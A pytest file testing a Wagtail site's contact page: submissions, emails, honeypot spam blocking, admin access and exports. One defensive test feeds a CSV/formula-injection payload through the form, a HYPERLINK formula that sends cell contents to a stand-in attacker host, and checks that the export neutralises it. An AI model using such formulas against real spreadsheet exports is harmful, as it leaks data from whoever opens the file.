"""The contact page: readers write to the editors; what they send is kept in the admin."""

import csv
import io
from http import HTTPStatus

import openpyxl
import pytest

from django.core import mail
from django.core.management import call_command
from django.urls import reverse

from wagtail.contrib.forms.models import FormSubmission
from wagtail.rich_text import RichText

from articles.models import ArticlePage, ContactPage, SectionPage, SiteSettings
from articles.reader_forms import HONEYPOT_FIELD
from articles.spreadsheets import as_text
from tests.helpers import edit_form_data, soup

pytestmark = pytest.mark.django_db
CONTACT = "/contact/"
MESSAGE = {
    "your_name": "Ada Reader",
    "your_e_mail_address": "ada@example.org",
    "your_message": "The dosage in the second article looks wrong.",
}


@pytest.fixture
def contact_page():
    return ContactPage.objects.get(slug="contact")


def test_a_reader_sends_a_message_and_sees_the_thank_you_text(client, contact_page):
    response = client.post(CONTACT, MESSAGE)
    assert response.status_code == HTTPStatus.OK
    assert "your message has reached our editors" in response.content.decode()
    submission = FormSubmission.objects.get(page=contact_page)
    assert submission.get_data()["your_message"] == MESSAGE["your_message"]
    assert HONEYPOT_FIELD not in submission.form_data


def test_a_message_is_emailed_to_the_pages_address_when_it_has_one(client, contact_page):
    contact_page.to_address = "editors@example.org"
    contact_page.save_revision().publish()
    client.post(CONTACT, MESSAGE)
    [sent] = mail.outbox
    assert sent.to == ["editors@example.org"]
    assert sent.subject == "Message from the contact page"
    assert "Your message: The dosage in the second article looks wrong." in sent.body


def test_a_message_is_kept_when_the_mail_server_fails(client, contact_page, monkeypatch):
    def fail(*args, **kwargs):
        raise ConnectionRefusedError("no mail server")

    monkeypatch.setattr("django.core.mail.backends.locmem.EmailBackend.send_messages", fail)
    contact_page.to_address = "editors@example.org"
    contact_page.save_revision().publish()
    response = client.post(CONTACT, MESSAGE)
    assert "your message has reached our editors" in response.content.decode()
    assert FormSubmission.objects.filter(page=contact_page).count() == 1


def test_without_an_address_a_message_is_kept_but_not_emailed(client, contact_page):
    client.post(CONTACT, MESSAGE)
    assert mail.outbox == []
    assert FormSubmission.objects.filter(page=contact_page).count() == 1


def test_a_form_with_errors_keeps_what_the_reader_wrote_and_says_what_is_wrong(client):
    response = client.post(CONTACT, {**MESSAGE, "your_e_mail_address": "not an address"})
    html = soup(response)
    assert html.title.get_text().startswith("Error: ")
    summary = html.select_one(".error-summary")
    link = summary.find("a", href="#id_your_e_mail_address")
    assert "Enter a valid email address." in link.get_text()
    field = html.find(id="id_your_e_mail_address")
    assert field["aria-invalid"] == "true"
    assert "id_your_e_mail_address_error" in field["aria-describedby"].split()
    assert html.find(id="id_your_e_mail_address_error") is not None
    assert html.find(id="id_your_message").get_text().strip() == MESSAGE["your_message"]
    assert html.find(id="id_your_name")["value"] == MESSAGE["your_name"]
    assert FormSubmission.objects.count() == 0


def test_a_filled_in_honeypot_is_refused_with_a_message_and_nothing_kept(client):
    response = client.post(CONTACT, {**MESSAGE, HONEYPOT_FIELD: "http://spam.example"})
    assert "a field meant to stay empty was filled in" in response.content.decode()
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


def test_the_honeypot_is_hidden_from_people(client):
    honeypot = soup(client.get(CONTACT)).find(attrs={"name": HONEYPOT_FIELD})
    assert honeypot.find_parent("div").has_attr("hidden")


def test_the_form_links_to_the_privacy_notice_and_works_without_javascript(client):
    form = soup(client.get(CONTACT)).select_one("main form")
    assert form["method"] == "post"
    assert form["action"] == CONTACT
    assert form.find("a", href=reverse("privacy"))
    assert form.find("input", attrs={"name": "csrfmiddlewaretoken"})


def test_every_page_links_to_the_contact_page_from_its_footer(client, home):
    footer = soup(client.get(home.url)).find("footer")
    assert footer.find("a", string="Contact us")["href"] == CONTACT


def test_an_unpublished_contact_page_leaves_the_footer(client, home, contact_page):
    contact_page.unpublish()
    footer = soup(client.get(home.url)).find("footer")
    assert footer.find("a", string="Contact us") is None


def test_a_reload_keeps_an_editors_choice_of_no_footer_link(home):
    site_settings = SiteSettings.for_site(home.get_site())
    site_settings.contact_page = None
    site_settings.save()
    call_command("load_content", verbosity=0)
    assert SiteSettings.for_site(home.get_site()).contact_page is None


def test_a_long_message_is_refused(client):
    response = client.post(CONTACT, {**MESSAGE, "your_message": "x" * 5001})
    assert "Ensure this value has at most 5000 characters" in response.content.decode()
    assert FormSubmission.objects.count() == 0


@pytest.mark.parametrize("method", ["put", "patch", "delete", "options"])
def test_other_methods_than_reading_and_posting_are_not_allowed(client, method):
    response = getattr(client, method)(CONTACT)
    assert response.status_code == HTTPStatus.METHOD_NOT_ALLOWED


def test_editors_may_add_a_contact_page_under_the_home_page_only(home):
    assert ContactPage.can_create_at(home)
    assert not ContactPage.can_create_at(SectionPage.objects.first())


def test_an_editor_changes_a_field_of_the_form_and_readers_see_it(
    client, editor_client, contact_page
):
    data = edit_form_data(editor_client, contact_page)
    data["form_fields-0-label"] = "Your full name"
    data["action-publish"] = "action-publish"
    response = editor_client.post(reverse("wagtailadmin_pages:edit", args=[contact_page.pk]), data)
    assert response.status_code == HTTPStatus.FOUND
    label = soup(client.get(CONTACT)).find("label", attrs={"for": "id_your_name"})
    assert label.get_text(strip=True).startswith("Your full name")


def test_submissions_are_listed_in_the_admin_and_can_be_deleted(
    client, editor_client, contact_page
):
    client.post(CONTACT, MESSAGE)
    submission = FormSubmission.objects.get()
    listing = editor_client.get(reverse("wagtailforms:list_submissions", args=[contact_page.pk]))
    assert MESSAGE["your_message"] in listing.content.decode()
    delete_url = reverse("wagtailforms:delete_submissions", args=[contact_page.pk])
    response = editor_client.post(f"{delete_url}?selected-submissions={submission.pk}")
    assert response.status_code == HTTPStatus.FOUND
    assert not FormSubmission.objects.exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_export_keeps_a_spreadsheet_from_running_what_a_reader_wrote(
    client, editor_client, contact_page, start
):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Open")'
    client.post(CONTACT, {**MESSAGE, "your_name": formula, "your_message": f"{start}1+1"})
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
    export = editor_client.get(url + "?export=csv")
    [row] = csv.DictReader(io.StringIO(export.getvalue().decode(), newline=""))
    assert row["Your name"] == "'" + formula
    assert row["Your message"] == f"'{start}1+1"


def test_the_spreadsheet_export_stores_a_formula_a_reader_wrote_as_text(
    client, editor_client, contact_page
):
    client.post(CONTACT, {**MESSAGE, "your_message": "=1+1"})
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
    export = editor_client.get(url + "?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    [cell] = [cell for cell in sheet[2] if cell.value == "=1+1"]
    assert cell.data_type == "s"


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1"])
def test_a_cell_starting_with_a_tab_or_carriage_return_is_exported_as_text(cell):
    assert as_text(cell) == "'" + cell


def test_the_export_keeps_ordinary_answers_as_written(client, editor_client, contact_page):
    client.post(CONTACT, {**MESSAGE, "your_message": "Dose 5-10 mg = too much?"})
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
    export = editor_client.get(url + "?export=csv")
    [row] = csv.DictReader(io.StringIO(export.getvalue().decode(), newline=""))
    assert row["Your message"] == "Dose 5-10 mg = too much?"


def test_reviewers_read_submissions_and_editors_do_not(client, contact_page, editor, reviewer):
    client.post(CONTACT, MESSAGE)
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
    client.force_login(reviewer)
    assert MESSAGE["your_message"] in client.get(url).content.decode()
    client.force_login(editor)
    response = client.get(url)
    assert response.status_code == HTTPStatus.FOUND
    assert MESSAGE["your_message"] not in response.content.decode()


def test_a_call_to_action_can_link_to_the_contact_page(client, contact_page):
    article = ArticlePage.objects.get(slug="anxiety-and-chronic-pain")
    cta = {"text": RichText("<p>Questions?</p>"), "link_label": "Write to us"}
    article.body.append(("cta", {**cta, "link_page": contact_page}))
    article.save_revision().publish()
    button = soup(client.get(article.url)).find("a", string="Write to us")
    assert button["href"] == CONTACT


@pytest.mark.parametrize("query", ["Ada Reader", "ADA@example", "dosage in the second"])
def test_submissions_are_found_by_name_email_or_text(editor_client, contact_page, query):
    contact_page.get_submission_class().objects.bulk_create(
        contact_page.get_submission_class()(page=contact_page, form_data=data)
        for data in [
            MESSAGE,
            {"your_name": "Ben", "your_e_mail_address": "ben@example.org", "your_message": "Hi"},
        ]
    )
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])
    listing = editor_client.get(url, {"q": query}).content.decode()
    assert MESSAGE["your_message"] in listing
    assert "ben@example.org" not in listing
    assert "ben@example.org" in editor_client.get(url).content.decode()
